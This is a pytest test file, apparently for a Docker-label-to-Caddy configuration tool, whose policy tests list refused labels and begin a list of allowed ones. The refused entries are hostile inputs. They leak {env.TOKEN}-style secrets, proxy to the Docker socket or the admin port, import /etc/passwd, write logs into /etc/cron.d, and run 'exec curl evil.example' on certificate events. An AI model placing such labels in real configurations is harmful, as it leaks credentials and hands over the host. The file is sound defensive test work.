"""What labels may not say, and who may say it all the same. `tests/golden/policy` holds what is told, case by case."""

from collections.abc import Callable

import pytest
from dockcaddy import LabelError, Mount, plugins, testing
from dockcaddy.errors import SettingsError
from dockcaddy.plugins.sections import load_sections
from dockcaddy.settings.table import Settings
from dockcaddy_policy import PolicySettings
from policies import refused_by, rendered, site
from work import grows_evenly

SHORT = (
    ".00001s", "1μs", "1µs", "+1ns", "0.0000001h", "0.000000001d", "+.1s", "1ns1us", "-1s", "0" * 900 + ".0000001s",
)  # fmt: skip
EVERYBODY = (
    "0.0.0.0/1 128.0.0.0/1",
    "0.0.0.0/2 64.0.0.0/2 128.0.0.0/2",
    "1.2.3.4/0",
    "::0/0",
    "::/1 8000::/1",
    "2000::/3",
    "10.0.0.0/8 2000::/4",
    " ".join(f"{first}.0.0.0/8" for first in range(64, 128)),
)

REFUSED = [
    ("environment", site(caddy__respond="`a {env.TOKEN} b`")),
    ("environment", site(caddy__header__X="{env.TOKEN}")),
    ("environment", {"caddy": "example.org", "caddy.header.{env\\.TOKEN}": "x"}),
    ("environment", {"caddy": "example.org", "caddy.@a.vars_regexp": "n {}env.TOKEN} .*"}),
    ("environment", {"caddy": "example.org", "caddy.@a.vars": "{}}env.TOKEN}} x"}),
    ("environment", {"caddy": "(s)", "caddy.log_append": "x {\\}env.TOKEN}"}),
    ("environment", site(caddy__log__format="append", caddy__log__format__x="{}env.TOKEN}")),
    ("environment", site(caddy__tls__issuer="acme {env.TOKEN}")),
    ("environment", {"caddy.email": "{env.MAIL_PASSWORD}"}),
    ("environment", site(caddy__tls__eab="{env.KEY_ID_TOKEN} x")),
    ("environment", site(caddy__tls__ca="{env.CA_PASSWORD}")),
    ("environment", {"caddy": "example.org", "caddy.basic_auth.{env\\.USER_PASSWORD}": "x"}),
    ("environment", {"caddy.cert_issuer": "acme {$TOKEN}"}),
    ("environment", {"caddy": "(s)", "caddy.respond": "{env.TOKEN}"}),
    ("environment", {"caddy.email": "{env.TOKEN}"}),
    ("environment", site(caddy__tls__ca="{env.TOKEN}")),
    ("environment", site(caddy__basic_auth="bcrypt {env.TOKEN}")),
    ("environment", {"caddy": "example.org", "caddy.@a.vars": "{env.TOKEN} x"}),
    ("environment", site(caddy__vars__tls="{env.TOKEN}")),
    ("environment", site(caddy__header__dns="{env.TOKEN}")),
    ("environment", site(caddy__header__acme_x="{$TOKEN}")),
    ("environment", site(caddy__reverse_proxy="a:80", caddy__reverse_proxy__health_headers__dns="{env.TOKEN}")),
    ("environment", site(caddy__map="{host} {x}", caddy__map__storage="{env.TOKEN}")),
    ("environment", {"caddy": "example.org", "caddy.import": "s", "caddy.import.tls": "{env.TOKEN}"}),
    ("environment", site(caddy__tls="{env.TOKEN}")),
    ("environment", site(caddy__tls="{$TOKEN} {$TOKEN}")),
    ("environment", site(caddy__tls__protocols="{$TOKEN}")),
    ("environment", site(caddy__tls__dns="{$TOKEN}")),
    ("environment", site(caddy__tls__load="{env.TOKEN}")),
    ("environment", site(caddy__tls__eab="{env.TOKEN} {env.TOKEN}")),
    ("environment", site(caddy__tls__issuer="acme", caddy__tls__issuer__email="{env.TOKEN}")),
    ("environment", site(caddy__tls__issuer="acme", caddy__tls__issuer__profile="{env.TOKEN}")),
    ("environment", site(caddy__tls__issuer="acme", caddy__tls__issuer__dir="https://evil.test email {env.DB_URL}")),
    ("environment", site(caddy__tls__dns_challenge_override_domain="{env.TOKEN}")),
    ("environment", site(caddy__tls__dns="rfc2136", caddy__tls__dns__key_name="{env.TOKEN}")),
    ("environment", {"caddy": "example.org", "caddy.basic_auth.{env\\.TOKEN}": "x"}),
    ("environment", {"caddy": "example.org", "caddy.vars.basic_auth.bob": "{env.TOKEN}"}),
    ("environment", {"caddy.acme_eab.key_id": "{env.TOKEN}"}),
    ("environment", {"caddy.storage": "{$TOKEN}"}),
    ("dns-servers", {"caddy.acme_dns": "acmedns", "caddy.acme_dns.server_url": "http://evil.example"}),
    ("dns-servers", site(caddy__tls__dns="powerdns", caddy__tls__dns__server_url="{$NO_URL:http://evil.example}")),
    ("dns-servers", site(caddy__tls__dns="powerdns", caddy__tls__dns__api_token="{env.T} server_url http://evil.example")),
    ("dns-servers", site(caddy__tls__dns="x https://evil.example {env.TOKEN}")),
    ("dns-servers", site(caddy__tls__dns="inwx", caddy__tls__dns__endpoint_url="evil.example")),
    ("dns-servers", site(caddy__tls__dns="x", caddy__tls__dns__some_place="https://evil.example")),
    ("files", site(caddy__log_append="x {}file./etc/hostname}")),
    ("files", site(caddy__log_append="x {}file.base}")),
    ("files", site(caddy__tls__dns="{file./run/secrets/a}")),
    ("built-placeholders", {"caddy": "(s)", "caddy.respond": "{{\"{{args[0]}.TOKEN}\"}}"}),
    ("built-placeholders", {"caddy": "(s)", "caddy.{args[0]}": "/data"}),
    ("built-placeholders", site(caddy__import="s {en v.TOKEN}")),
    ("built-placeholders", {"caddy": "(s)", "caddy.respond": "{{\"{{args[0]}{args[1]}\"}}"}),
    ("built-placeholders", {"caddy": "(s)", "caddy.header.{args[0]}": "/etc/hostname"}),
    ("built-placeholders", {"caddy": "(s)", "caddy.root": "{block}"}),
    ("built-placeholders", {"caddy": "(s)", "caddy.header.{block}": ""}),
    ("built-placeholders", {"caddy": "example.org", "caddy.import": "s", "caddy.import.ro{x}ot": "/data"}),
    ("built-placeholders", {"caddy": "(s)", "caddy.log_append": "x {}{args[0]}"}),
    ("built-placeholders", {"caddy": "(s)", "caddy.log_append": "x {\\}e{args[0]}"}),
    ("built-placeholders", {"caddy": "(s)", "caddy.log_append": "x {args[1]}{}}en{args[0]}"}),
    ("built-placeholders", site(caddy__import="s `{}` env.TOKEN}")),
    ("built-placeholders", site(caddy__import="s }{ }{")),
    ("built-placeholders", site(caddy__import="s }{en v.TOKEN}{")),
    ("expressions", {"caddy": "example.org", "caddy.@a.expression": "`ph(req, 'env.TOKEN') == 'x'`"}),
    ("expressions", {"caddy": "example.org", "caddy.@a": "expression `vars_regexp('a', '{}' + 'env.T}', '.*')`"}),
    ("expressions", {"caddy": "example.org", "caddy.@a": "expression `vars_regexp('a', '{}}en' + 'v.T}', '.*')`"}),
    ("expressions", {"caddy": "example.org", "caddy.@a": "`ph//x\n(req, 'env.TOKEN') == 'x'`"}),
    ("expressions", {"caddy": "example.org", "caddy.@a": "`r'\\' + ph(req,'env.TOKEN') + r'\\' != ''`"}),
    ("expressions", {"caddy": "example.org", "caddy.@a": r"`vars_regexp('x', '\x7benv.TOKEN\x7d', '.*')`"}),
    ("expressions", {"caddy": "example.org", "caddy.@a": r"`vars_regexp('x', '\173env.TOKEN\175', '.*')`"}),
    ("expressions", {"caddy": "example.org", "caddy.@a": "expression vars_regexp('x', {header.P}, '.*') && true"}),
    ("expressions", {"caddy": "example.org", "caddy.@a": "`header({'X': [{header.P}]})`"}),
    # HTTP/2 takes any method, HTTP/3 any host
    ("expressions", {"caddy": "example.org", "caddy.@a": "`header({'X': [{method}]})`"}),
    ("expressions", {"caddy": "example.org", "caddy.@a": "`vars_regexp('n', {http.request.method}, '(.*)')`"}),
    ("expressions", {"caddy": "*.example.org", "caddy.@a": "`vars_regexp('n', {host}, '(.*)')`"}),
    ("expressions", {"caddy": ":8080", "caddy.@a": "`vars_regexp('n', {http.request.hostport}, '(.*)')`"}),
    ("expressions", {"caddy": "(s)", "caddy.@a": "`vars_regexp('n', {labels.0}, '(.*)')`"}),
    ("expressions", {"caddy": "*.example.org", "caddy.import": "s `header({'X': [{host}]})`"}),
    ("expressions", {"caddy": "example.org", "caddy.@a": "`header({'X': [{http.request.tls.server_name}]})`"}),
    ("expressions", {"caddy": "example.org", "caddy.@a": "`header({'X': ['}{en' + 'v.TOKEN}']})`"}),
    ("expressions", {"caddy": "example.org", "caddy.@a.not": "expression `vars_regexp({header.P}, 'x')`"}),
    ("expressions", site(caddy__reverse_proxy="a:80", caddy__reverse_proxy__lb_retry_match="`vars({ {header.P}: 'x'})`")),
    ("expressions", {"caddy": "example.org", "caddy.@a": "`vars_regexp_request_string_string(req, ['{#env.T}'.replace('#', ''), 'x'])`"}),
    ("expressions", {"caddy": "example.org", "caddy.@a": "`vars_matcher_request_map(.req, {'{#env.T}'.replace('#', ''): 'x'})`"}),
    ("expressions", {"caddy": "example.org", "caddy.@a": "`file_request_map( req, {'root': '/data'})`"}),
    ("expressions", site(caddy__import="s `vars_regexp_request_string_string(req,[{header.P},'.*'])`")),
    ("expressions", {"caddy": "example.org", "caddy.@a.not.vars_regexp('x', {header\\.P}, '\\.*')": ""}),
    ("expressions", {"caddy": "(s)", "caddy.true || vars_regexp_request_string_string(req, [{header\\.P}, 'x'])": ""}),
    ("expressions", site(caddy__reverse_proxy="a:80", **{"caddy.reverse_proxy.lb_retry_match.file({'root': '/data'})": ""})),
    ("expressions", {"caddy": "(s)", "caddy.@a": "expression {args[0]}"}),
    ("expressions", site(caddy__import="s `vars_regexp('x',{header.P},'.*')`")),
    ("expressions", {"caddy": "example.org", "caddy.@a": "`file({'root': '/data', 'try_files': ['/*']})`"}),
    ("expressions", {"caddy": "example.org", "caddy.@a": "`file({'root': {vars.x}})`"}),
    ("imports", {"caddy": "import /etc/passwd"}),
    ("imports", {"caddy": "(/home/op/caddy/auth.caddy)", "caddy.respond": "{args[0]}"}),
    ("urls", site(caddy__tls__issuer="acme http://172.18.0.9/dir")),
    ("urls", site(caddy__tls__ca="HTTP://ca.internal/dir")),
    ("urls", {"caddy.acme_ca": "http://ca.internal/dir"}),
    ("urls", {"caddy.acme_ca": "{$NO_CA:http://ca.internal/dir}"}),
    ("imports", site(caddy__import="/home/op/caddy/../../adm/x")),
    ("imports", site(caddy__import="/home/op/caddy/sites/../auth.caddy")),
    ("imports", site(caddy__handle__import="{args[0]}")),
    ("imports", site(caddy__import=".env")),
    ("imports", site(caddy__import="*")),
    ("imports", site(caddy__import="/home/op/caddy/*/secret")),
    ("imports", site(caddy__import="s ../x")),
    ("imports", site(caddy__header__import="s")),
    ("imports", site(caddy__vars__import="s")),
    ("imports", site(caddy__uri="query", caddy__uri__import="s")),
    ("imports", site(caddy__log__format="filter", caddy__log__format__import="s")),
    ("imports", site(caddy__log__format="append", caddy__log__format__wrap="filter", caddy__log__format__wrap__import="s")),
    ("imports", {"caddy": "(t)", "caddy.format": "{args[:]}", "caddy.format.import": "s"}),
    ("imports", site(caddy__tls__dns="powerdns", caddy__tls__dns__import="s")),
    ("upstreams", site(caddy__reverse_proxy="http://127.0.0.1:2019")),
    ("upstreams", site(caddy__reverse_proxy="/x* [::1]:2019")),
    ("upstreams", site(caddy__reverse_proxy="evil.example:2019")),
    ("upstreams", site(caddy__reverse_proxy="localhost:2018-2020")),
    ("upstreams", site(caddy__reverse_proxy=":2019")),
    ("upstreams", site(caddy__reverse_proxy="localhost:{header.Port}")),
    ("upstreams", site(caddy__reverse_proxy="unix//proc/1/fd/3")),
    ("upstreams", site(caddy__reverse_proxy="unix//var/lib/dockcaddy/admin.sock")),
    ("upstreams", site(caddy__reverse_proxy__to="localhost:2019")),
    ("upstreams", site(caddy__reverse_proxy__dynamic="a localhost 2019")),
    ("upstreams", site(caddy__reverse_proxy__dynamic="srv _x._tcp.evil.example")),
    ("upstreams", site(caddy__reverse_proxy="localhost:80", caddy__reverse_proxy__health_port="2019")),
    ("upstreams", site(caddy__reverse_proxy="localhost:80", caddy__reverse_proxy__health_upstream="localhost:2019")),
    ("upstreams", site(caddy__forward_auth="localhost:2019")),
    ("upstreams", site(caddy__handle__php_fastcgi="localhost:2019")),
    ("upstreams", site(caddy__import="proxy localhost:2019")),
    ("upstreams", site(caddy__reverse_proxy="HTTP://localhost:2019")),
    ("upstreams", site(caddy__reverse_proxy="TCP/localhost:2019")),
    ("upstreams", site(caddy__reverse_proxy="`tcp /localhost:2019`")),
    ("upstreams", site(caddy__reverse_proxy="* /localhost:2019")),
    ("upstreams", site(caddy__reverse_proxy__to="/localhost:2019")),
    ("upstreams", site(caddy__reverse_proxy__to="/localhost:2019 a:80")),
    ("upstreams", site(caddy__reverse_proxy__max_fails="5 to localhost:2019")),
    ("upstreams", site(caddy__reverse_proxy__dynamic="a", caddy__reverse_proxy__dynamic__name="localhost port 2019")),
    ("upstreams", site(caddy__reverse_proxy="localhost:02019")),
    ("upstreams", site(caddy__reverse_proxy="172.18.0.9:2019")),
    ("upstreams", site(caddy__reverse_proxy="UNIX//var/run/docker.sock")),
    ("upstreams", site(caddy__reverse_proxy="a:80", caddy__reverse_proxy__health_port="+2019")),
    ("upstreams", site(caddy__reverse_proxy__dynamic="a localhost +2019")),
    ("upstreams", site(caddy__import="checked +2019")),
    # behind a link `..` is not where it seems
    ("upstreams", site(caddy__reverse_proxy="unix//var/run/../proc/self/cwd/../admin.sock")),
    ("upstreams", site(caddy__reverse_proxy="unix//dev/fd/../cwd/../admin.sock")),
    ("upstreams", site(caddy__reverse_proxy="unix//dev/fd/7/admin.sock")),
    ("upstreams", site(caddy__reverse_proxy="unix//srv/app/../app.sock|0222")),
    ("upstreams", site(caddy__log__output="net unix//var/run/../proc/self/cwd/../admin.sock")),
    ("upstreams", site(caddy__reverse_proxy="unix//run/docker/plugins/volumes.sock")),
    ("upstreams", site(caddy__reverse_proxy="unix//run/user/1000/podman/podman")),
    ("upstreams", site(caddy__reverse_proxy="unix/@/containerd-shim/moby/1/shim.sock")),
    ("upstreams", site(caddy__reverse_proxy="unix+h2c//run/docker.sock")),
    ("upstreams", site(caddy__reverse_proxy="unix//var/snap/lxd/common/lxd/unix.socket")),
    ("upstreams", site(caddy__reverse_proxy="unix/../admin.sock")),
    ("upstreams", site(caddy__reverse_proxy="unix/app.sock")),
    ("upstreams", site(caddy__reverse_proxy="unix//run/proxy/api.sock")),
    ("upstreams", site(caddy__reverse_proxy="unix//var/run/proxy/api.sock")),
    ("upstreams", site(caddy__reverse_proxy="fd/3")),
    ("upstreams", site(caddy__reverse_proxy="socket-proxy:2375")),
    ("upstreams", site(caddy__reverse_proxy="{re.sub.1}:8080")),
    ("upstreams", site(caddy__reverse_proxy="unix{re.sub.1}:8080")),
    ("upstreams", site(caddy__reverse_proxy="localhost{header.P}")),
    ("upstreams", site(caddy__reverse_proxy="{header.A}{header.B}")),
    ("upstreams", site(caddy__reverse_proxy="{vars.a}{vars.b}")),
    ("upstreams", site(caddy__reverse_proxy="{query.u}:80")),
    ("upstreams", site(caddy__reverse_proxy="un{query.u}:80")),
    ("upstreams", site(caddy__reverse_proxy="{host}//var/run/docker.sock")),
    ("upstreams", site(caddy__reverse_proxy="{labels.1}")),
    ("upstreams", site(caddy__reverse_proxy__dynamic="multi", caddy__reverse_proxy__dynamic__a="localhost 2019")),
    ("upstreams", site(caddy__reverse_proxy__dynamic="multi", caddy__reverse_proxy__dynamic__srv="_x._tcp.evil.test")),
    ("upstreams", site(caddy__reverse_proxy__dynamic="a", caddy__reverse_proxy__dynamic__port="{header.P}")),
    ("upstreams", {"caddy": "(s)", "caddy.a": "localhost 2019"}),
    ("upstreams", {"caddy": "(s)", "caddy.srv": "_x._tcp.evil.test"}),
    ("upstreams", site(caddy__log__output="net TCP/localhost:2019")),
    ("upstreams", {"caddy.layer4.:5432.route.proxy": "localhost:2019"}),
    ("upstreams", {"caddy": "(s)", "caddy.reverse_proxy": "{args[0]}{args[1]}"}),
    ("upstreams", {"caddy": "(s)", "caddy.reverse_proxy": "localhost{args[0]}"}),
    ("upstreams", {"caddy": "(s)", "caddy.reverse_proxy": "localhost:20{args[0]}"}),
    ("upstreams", {"caddy": "(s)", "caddy.reverse_proxy": "{args[0]}//var/run/docker.sock"}),
    ("upstreams", {"caddy": "(s)", "caddy.import": "t 20{args[0]}"}),
    ("upstreams", site(caddy__import="proxy 2019")),
    ("upstreams", site(caddy__import="proxy 2000-2020")),
    ("upstreams", site(caddy__import="proxy {path}")),
    ("upstreams", site(caddy__import="proxy {labels.1}")),
    ("upstreams", site(caddy__import='proxy `{"a":{b}unix//var/run/docker.sock{c\\}}`')),
    ("upstreams", site(caddy__import="proxy `tcp /localhost:2019`")),
    ("urls", site(caddy__tls__ca="http://localhost:2019/config/")),
    ("urls", site(caddy__tls__get_certificate="http HTTP://localhost:2019?x")),
    ("urls", {"caddy": "(s)", "caddy.tls.get_certificate": "http http://{args[0]}{args[1]}/config"}),
    ("urls", {"caddy": "(s)", "caddy.tls.get_certificate": "http http://{args[0]}19/config"}),
    ("urls", {"caddy": "(s)", "caddy.tls.get_certificate": "http http://{args[0]}{args[1]}@ca/"}),
    ("urls", {"caddy.acme_ca": "{$NO_CA:http://localhost:2019/stop}"}),
    ("urls", {"caddy.on_demand_tls.ask": "http://u@localhost:2019/"}),
    ("urls", {"caddy.cert_issuer": "acme", "caddy.cert_issuer.dir": "http://localhost:2019/"}),
    ("urls", site(caddy__reverse_proxy="a:80", caddy__reverse_proxy__transport__network_proxy="url HTTP://localhost:2019")),
    ("urls", site(caddy__reverse_proxy="a:80", caddy__reverse_proxy__transport__forward_proxy_url="{header.P}")),
    ("urls", site(caddy__reverse_proxy="a:80", caddy__reverse_proxy__transport__dial_timeout="3s forward_proxy_url http://localhost:2019")),
    ("listeners", {"caddy": "HTTP://example.org:2019", "caddy.respond": "x"}),
    ("listeners", {"caddy": "http://example.org:2000-2020", "caddy.respond": "x"}),
    ("listeners", {"caddy.layer4.:2019.route.proxy": "db:5432"}),
    ("listeners", {"caddy.layer4": ":2000-2020", "caddy.layer4.route.proxy": "db:5432"}),
    ("listeners", site(caddy__bind="127.0.0.1")),
    ("listeners", site(caddy__bind="fd/3")),
    ("listeners", {"caddy.http_port": "+2019"}),
    ("listeners", site(caddy__tls__issuer="acme", caddy__tls__issuer__alt_http_port="2019")),
    ("listeners", {"caddy.cert_issuer": "acme", "caddy.cert_issuer.alt_tlsalpn_port": "2019"}),
    ("listeners", site(caddy__bind="UNIX//var/run/docker.sock")),
    ("listeners", site(caddy__bind="unix//var/run/../home/op/api.sock")),
    ("listeners", {"caddy": "(s)", "caddy.bind": "{args[0]}"}),
    ("listeners", {"caddy.http_port": "2019"}),
    ("listeners", site(caddy__bind="tcp/127.0.0.1:2019")),
    ("log-files", site(caddy__log__output="file /var/log/../lib/x")),
    ("log-files", site(caddy__log__output="file /etc/cron.d/x")),
    ("log-files", {"caddy": "(s)", "caddy.log.output": "file /var/log/{args[0]}{args[1]}/x.log"}),
    ("log-files", {"caddy": "(s)", "caddy.log.output": "file /var/log/.{args[0]}/x.log"}),
    ("log-files", {"caddy": "(s)", "caddy.log.output": "file /{args[0]}/x.log"}),
    ("log-files", {"caddy": "(s)", "caddy.log.output": "file /home/{args[0]}/logs/x.log"}),
    ("log-files", {"caddy": "(s)", "caddy.log.output": "file /d{args[0]}/caddy/x.log"}),
    ("log-files", {"caddy": "(s)", "caddy.log.output": "file /var/log/x{args[0]}./x.log"}),
    ("imports", {"caddy": "(s)", "caddy.import": "t {args[0]}{args[1]}"}),
    ("log-hosts", site(caddy__log__hostnames="example.org other.example.org")),
    ("log-hosts", {"caddy": "http://", "caddy.log.hostnames": "bank.example"}),
    ("log-hosts", {"caddy": "*.*", "caddy.log.hostnames": "bank.example"}),
    ("log-hosts", {"caddy": "(s)", "caddy.log.hostnames": "{args[0]}"}),
    ("log-hosts", {"caddy": "(s)", "caddy.hostnames": "bank.example"}),
    ("log-hosts", {"caddy": "(s)", "caddy.import": "t", "caddy.import.hostnames": "bank.example"}),
    ("log-files", site(caddy__log__output="file /var/run/../home/op/caddy/evil.log")),
    ("log-files", site(caddy__log__output="file /home/op/caddy/evil.log")),
    ("log-files", {"caddy.log.output": "file /srv/www/all.log"}),
    ("log-files", site(caddy__log__output="file /srv/www/index.html")),
    ("log-files", site(caddy__log__output="file `/var/log/{x y}/../../data/x.log`")),
    ("log-files", site(caddy__log__output="file /data/access.log")),
    ("log-files", site(caddy__tls="internal", caddy__tls__insecure_secrets_log="/var/log/keys.log")),
    ("roots", site(caddy__vars="ro{x}ot /data")),
    ("roots", site(caddy__vars="{header.P} /data")),
    ("roots", {"caddy": "example.org", "caddy.vars.ro{x}ot": "/data"}),
    ("roots", {"caddy": "example.org", "caddy.import": "s", "caddy.import.header.root": "/data"}),
    ("roots", {"caddy": "example.org", "caddy.import": "s", "caddy.import.not.vars": "root /data"}),
    ("roots", {"caddy": "example.org", "caddy.import": "s", "caddy.import.@x.vars": "root /data"}),
    ("roots", {"caddy": "example.org", "caddy.import": "s", "caddy.import.@x": "status 200 root /data"}),
    ("roots", site(caddy__file_server__import="s", **{"caddy.file_server.import.not.status": "200 root /data"})),
    ("roots", site(caddy__file_server__root="/data browse")),
    ("roots", site(caddy__file_server__status="200 root /data")),
    ("roots", {"caddy": "(s)", "caddy.status": "200 root /data"}),
    ("roots", {"caddy": "example.org", "caddy.import": "s", "caddy.import.root": "/x /data"}),
    ("roots", site(caddy__root="* data/caddy")),
    ("roots", site(caddy__root="* /root")),
    ("roots", site(caddy__root="* /var/lib/docker/containers")),
    ("roots", site(caddy__root="* /var/lib/docker/volumes/other/_data")),
    ("roots", site(caddy__root="* /var/log/caddy")),
    ("roots", site(caddy__root="/data/caddy/certificates")),
    ("roots", site(caddy__root="* /srv/../etc")),
    ("roots", {"caddy": "http://caddy.data", "caddy.root": "* /{labels.0}/{labels.1}"}),
    ("roots", {"caddy": "http://ta", "caddy.file_server.root": "/da{http.request.host}"}),
    ("roots", {"caddy": "*.example.org", "caddy.vars.root": "/{http.request.host.labels.2}/caddy"}),
    ("roots", {"caddy": "example.org", "caddy.@f.file.root": "/var/{host}"}),
    ("roots", site(caddy__root="* /srv/{host}/../../data")),
    ("roots", {"caddy": "*.example.org", "caddy.root": "* /srv/.{labels.2}./data"}),
    ("roots", {"caddy": "*.example.org", "caddy.root": "* /srv/{labels.2}../data"}),
    ("roots", {"caddy": "*.example.org", "caddy.root": "* a/.{labels.2}./.{labels.2}./data"}),
    ("roots", site(caddy__root="* //proc/self")),
    ("roots", site(caddy__root="* ../..")),
    ("roots", site(caddy__root="* /home/op")),
    ("roots", site(caddy__file_server__root="/config")),
    ("roots", site(caddy__vars="root /data")),
    ("roots", site(caddy__vars__root="/data")),
    ("roots", {"caddy": "example.org", "caddy.@f.file.root": "/etc"}),
    ("chosen-roots", {"caddy": ":8080", "caddy.root": "* /srv/{host}"}),
    ("chosen-roots", {"caddy": "(s)", "caddy.root": "{args[0]}"}),
    ("chosen-roots", site(caddy__root="* `/da{x y}ta`")),
    ("storage", {"caddy.storage": "file_system", "caddy.storage.root": "."}),
    ("storage", {"caddy.storage": "file_system /"}),
    ("storage", {"caddy.storage": "file_system /var/lib/docker/volumes/evil/_data"}),
    ("templates", site(caddy__file_server__browse="/srv/evil.html")),
    ("templates", {"caddy": "(s)", "caddy.browse": "/srv/evil.html"}),
    ("templates", site(caddy__file_server__status="200 browse /srv/evil.html")),
    ("programs", {"caddy": "(s)", "caddy.events.on": "cert_obtained exec curl evil.example"}),
    ("programs", {"caddy.import": "s", "caddy.import.events.on": "cert_obtained run curl evil.example"}),
    ("programs", site(caddy__exec="cat /data/caddy/secret")),
    ("global-options", {"caddy.default_bind": "127.0.0.9"}),
    ("global-options", {"caddy.auto_https": "disable_redirects off"}),
    ("global-options", {"caddy.order": "respond first"}),
    ("global-options", {"caddy.order": "basic_auth last"}),
    ("shared-options", {"caddy.order": "templates before respond"}),
    ("shared-options", {"caddy.https_port": "8443"}),
    ("global-options", {"caddy.servers.protocols": "h2 h3"}),
    ("global-options", {"caddy.servers.timeouts.write": "1s"}),
    ("global-options", {"caddy.servers.timeouts.idle": "5m read_header 1ns"}),
    ("global-options", {"caddy.servers.timeouts.read_body_idle": "1s 1000000000"}),
    ("global-options", {"caddy.servers": ":443", "caddy.servers.timeouts.write_idle": "1ns"}),
    ("global-options", {"caddy.servers.max_header_size": "1B"}),
    ("global-options", {"caddy.servers.listener_wrappers.http_redirect": ""}),
    ("global-options", {"caddy.servers.listener_wrappers.proxy_protocol.fallback_policy": "require"}),
    ("global-options", {"caddy.renew_interval": "1ns"}),
    ("global-options", {"caddy.cert_lifetime": "1s"}),
    ("global-options", {"caddy.log.output": "net evil.example:514"}),
    ("global-options", {"caddy.renewal_window_ratio": "0.9999"}),
    ("global-options", {"caddy.pki.ca": "local", "caddy.pki.ca.root.cert": "/srv/evil.crt"}),
    ("global-options", {"caddy.log.core": "mock"}),
    ("global-options", site(caddy__log__core="mock")),
    ("global-options", {"caddy": "(s)", "caddy.core": "mock"}),
    ("global-options", site(caddy__log="default", caddy__log__output="stderr")),
    ("global-options", {"caddy": "https://", "caddy.tls.client_auth.mode": "require"}),
    ("global-options", {"caddy.log.output": "discard"}),
    *(("global-options", {"caddy.servers.timeouts.read_header": short}) for short in SHORT),
    ("global-options", {"caddy.servers.timeouts.idle": "1ns"}),
    *(("global-options", {"caddy.grace_period": short}) for short in ("1ns", "-1s")),
    *(
        ("global-options", {"caddy.servers": ":443", "caddy.servers.name": name})
        for name in ("srv0", "srv12", "remaining_auto_https_redirects")
    ),
    *(
        ("shared-options", {"caddy.auto_https": word})
        for word in ("disable_redirects", "ignore_loaded_certs", "disable_redirects ignore_loaded_certs")
    ),
    ("global-options", {"caddy.auto_https": "disable_certs"}),
    *(("global-options", {"caddy.pki.ca.maintenance_interval": each}) for each in ("1ns", ".5s", "9999h")),
    ("global-options", {"caddy.pki.ca": "mine", "caddy.pki.ca.maintenance_interval": "1ms"}),
    *(("global-options", {"caddy.pki.ca.intermediate_lifetime": each}) for each in ("1ns", "13h")),
    *(("global-options", {"caddy.pki.ca.renewal_window_ratio": each}) for each in ("1", "1e-9", "0x1p-9", "nan")),
    *(("global-options", {"caddy.renewal_window_ratio": each}) for each in ("1e-9", "+.001", "0x_1p-9", "nan")),
    *(("global-options", {"caddy.renew_interval": each}) for each in (".1s", "10d", "-1h")),
    *(("global-options", {"caddy.ocsp_interval": each}) for each in ("1μs", "99999h")),
    ("global-options", {"caddy.storage_clean_interval": "0.00001h"}),
    ("global-options", {"caddy.cert_issuer": "internal", "caddy.cert_issuer.lifetime": "1s"}),
    *(("global-options", {"caddy.servers.trusted_proxies": f"static {ranges}"}) for ranges in EVERYBODY),
    ("global-options", {"caddy.servers.trusted_proxies": "combine", "caddy.servers.trusted_proxies.static": "::0/0"}),
    *(
        ("global-options", {"caddy.servers.listener_wrappers.proxy_protocol.allow": ranges})
        for ranges in EVERYBODY
    ),
    ("global-options", {"caddy.servers.listener_wrappers.proxy_protocol.timeout": "1ns"}),
    ("global-options", {"caddy.servers.listener_wrappers.proxy_protocol.timeout": "5s fallback_policy require"}),
    ("global-options", {"caddy.servers.listener_wrappers.proxy_protocol.allow": "10.0.0.0/8", "caddy.servers.listener_wrappers.proxy_protocol.timeout": "5s deny 0.0.0.0/0"}),
    ("global-options", {"caddy.servers.packet_conn_wrappers.x": ""}),
    *(
        ("global-options", {"caddy.servers.max_header_size": each})
        for each in ("0.001kB", ".5kb", "1,0", "9223372036854774784", "9.3EB", "1KIB", "1 kb b")
    ),
    ("global-options", {"caddy.servers.timeouts.write_max_chunk": "0.001 MB"}),
    *(("global-options", {"caddy.servers.protocols": each}) for each in ("h1", "h1 h2c")),
    ("global-options", {"caddy.servers.strict_sni_host": "insecure_off"}),
    ("global-options", {"caddy.servers.expected_underscore_headers": "Content_Type"}),
    ("global-options", {"caddy.servers.expected_dot_headers": "Content.Type"}),
    ("global-options", {"caddy.servers.log_credentials": ""}),
    ("global-options", {"caddy.servers.enable_full_duplex": "log_credentials"}),
    ("global-options", {"caddy.metrics.observe_catchall_hosts": ""}),
    (
        "global-options",
        {"caddy.servers.keepalive_count": "1 timeouts", "caddy.servers.keepalive_count.read_header": "1ns"},
    ),
    ("global-options", {"caddy.servers.timeouts.idle": "1m read_header 1m read_header 1ns"}),
    ("programs", {"caddy.frankenphp.worker": "/srv/worker.php"}),
    ("programs", {"caddy.supervisor.touch /tmp/evil": ""}),
]  # fmt: skip

# https://www.cloudflare.com/ips
CLOUDFLARE = """
    173.245.48.0/20 103.21.244.0/22 103.22.200.0/22 103.31.4.0/22 141.101.64.0/18 108.162.192.0/18 190.93.240.0/20
    188.114.96.0/20 197.234.240.0/22 198.41.128.0/17 162.158.0.0/15 104.16.0.0/13 104.24.0.0/14 172.64.0.0/13
    131.0.72.0/22 2400:cb00::/32 2606:4700::/32 2803:f800::/32 2405:b500::/32 2405:8100::/32 2a06:98c0::/29
    2c0f:f248::/32
""".replace("\n", " ")
SOMEBODYS = (
    f"private_ranges {CLOUDFLARE}",
    "192.168.0.0/16 172.16.0.0/12 10.0.0.0/8 127.0.0.1/8 100.64.0.0/10 fd00::/8 fc00::/7 ::1 fe80::/10",
    "203.0.113.7 2001:db8::1",
)

ALLOWED = [
    site(caddy__tls="{$EMAIL}"),
    site(caddy__tls="{$TLS_CERT_FILE} {$TLS_KEY}"),
    site(caddy__tls="{$EMAIL_ADDRESS}", caddy__tls__ca="{env.ACME_CA_STAGING}"),
    site(caddy__tls="{$CERTIFICATE} {$CERTIFICATE_KEY}"),
    site(caddy__tls="internal"),
    site(
        caddy__tls__dns="route53", caddy__tls__dns__access_key_id="{env.AWS_ID}", caddy__tls__dns__region="eu-central-1"
    ),
    site(caddy__tls__dns="ovh", caddy__tls__dns__endpoint="ovh-eu", caddy__tls__dns__consumer_key="{$OVH_KEY}"),
    site(
        caddy__tls__dns="powerdns",
        caddy__tls__dns__server_url="{env.PDNS_URL}",
        caddy__tls__dns__api_token="{env.PDNS}",
    ),
    site(caddy__tls__dns="rfc2136", caddy__tls__dns__server="10.0.0.1:53", caddy__tls__dns__key="{env.DNS_KEY}"),
    site(caddy__tls__ca="{env.ACME_CA}", caddy__tls__resolvers="1.1.1.1 8.8.8.8"),
